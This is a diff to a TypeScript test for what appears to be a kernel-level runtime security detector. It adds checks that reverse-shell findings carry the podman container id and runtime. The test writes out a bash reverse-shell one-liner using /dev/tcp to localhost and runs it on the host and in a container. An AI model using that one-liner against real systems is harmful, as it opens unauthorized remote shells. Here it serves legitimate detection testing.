@@ -134,10 +134,12 @@ describe.runIf(tier.run && hasPodman)("kernel: the image, run as the DaemonSet r
     const shell = `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`;
     // exec: the shell keeps the pid spawned here, which its finding must name.
     const onHost = await run("bash", ["-c", `exec ${shell}`]);
-    const inContainer = await run("podman", [...PODMAN, ...RUN, "--network", "host", "--entrypoint", "/bin/bash", TAG, "-c", shell]);
+    const cidFile = join(work, "shell.cid");
+    const inContainer = await run("podman", [...PODMAN, ...RUN, "--network", "host", "--cidfile", cidFile, "--entrypoint", "/bin/bash", TAG, "-c", shell]);
     expect(inContainer.status, inContainer.stderr).toBe(0);
+    const containerId = readFileSync(cidFile, "utf8").trim();
 
-    type Finding = { rule: { id: string }; destination?: { port: number }; process: { name: string; pid: number } };
+    type Finding = { rule: { id: string }; destination?: { port: number }; process: { name: string; pid: number }; container?: { id: string; runtime: string } };
     const findings = () => stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l) as Finding).filter((f) => f.destination?.port === port);
     const until = Date.now() + 5_000;
     while (findings().length < 2 && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
@@ -145,6 +147,9 @@ describe.runIf(tier.run && hasPodman)("kernel: the image, run as the DaemonSet r
     const pids = findings().map((f) => f.process.pid);
     expect(pids).toContain(onHost.pid);
     expect(pids.filter((pid) => pid !== onHost.pid)).toHaveLength(1);
+    // The container's full id and runtime, from its cgroup; none for the shell on the host.
+    expect(findings().find((f) => f.process.pid === onHost.pid)!.container).toBeUndefined();
+    expect(findings().find((f) => f.process.pid !== onHost.pid)!.container).toEqual({ id: containerId, runtime: "podman" });
     for (const s of sockets) s.destroy();
     server.close();
 
